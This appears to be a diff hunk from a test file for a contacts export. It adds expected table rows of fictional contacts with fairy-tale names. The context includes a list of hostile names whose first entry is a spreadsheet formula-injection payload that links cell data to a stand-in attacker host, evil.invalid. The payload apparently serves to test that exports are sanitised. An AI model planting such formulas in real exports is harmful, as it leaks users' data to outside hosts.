@@ -23,6 +23,12 @@ TOKEN = "d75b3a66374942c5b3c019c698abc2067e151558acbd412345"
 ID_INSTANCE = "1101823456"
 
 REFERENCE_CONTACTS: list[dict[str, Any]] = [dict(c) for c in REFERENCE_PAGE_CONTACTS]
+# Their rows as every front end shows them (written out, not computed: the expectation).
+REFERENCE_ROWS = [
+    ["10000000", "Василиса", "Василиса Премудрая", "user", "79876543210"],
+    ["10000001", "Иван", "Иван Царевич", "user", "79998887766"],
+    ["10000002", "Лягушка", "Царевна Лягушка", "user", ""],
+]
 
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
